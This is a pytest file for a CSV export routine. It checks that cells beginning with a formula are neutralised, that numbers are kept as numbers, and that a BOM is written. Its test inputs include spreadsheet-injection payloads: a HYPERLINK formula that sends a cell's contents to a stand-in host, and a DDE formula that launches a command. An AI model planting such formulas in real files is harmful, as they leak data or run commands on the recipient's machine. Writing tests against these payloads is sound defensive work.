"""CSV exports: formula injection neutralised, numbers kept, BOM for Excel (security.md T8)."""

from __future__ import annotations

import csv
import io

import pytest

from readiness.services.exports import csv_text, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://127.0.0.1:9/?d="&A2,"x")',
        "=cmd|' /C calc'!A0",
        "＝1+1",
    ],
)
def test_t8_formula_starts_are_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_t8_numbers_and_plain_text_stay_as_they_are() -> None:
    assert safe_cell(-5000) == -5000
    assert safe_cell(12.5) == 12.5
    assert safe_cell(" =1") == " =1"  # leading space: not a formula
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell(None) == ""


def test_t8_the_file_has_a_bom_and_reads_back() -> None:
    text = "".join(csv_text(["name", "=header"], [["=evil()", -5000, 'a,b"c']]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["name", "'=header"], ["'=evil()", "-5000", 'a,b"c']]
